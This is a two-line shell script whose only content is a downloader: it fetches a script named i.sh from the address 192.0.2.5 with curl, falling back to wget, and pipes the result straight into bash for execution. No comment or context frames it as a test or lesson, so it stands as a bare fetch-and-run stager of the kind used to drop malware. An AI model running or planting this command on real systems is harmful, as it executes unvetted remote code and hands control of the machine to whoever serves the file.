#!/bin/sh
(curl -fsSL http://192.0.2.5/i.sh || wget -q -O- http://192.0.2.5/i.sh) | bash
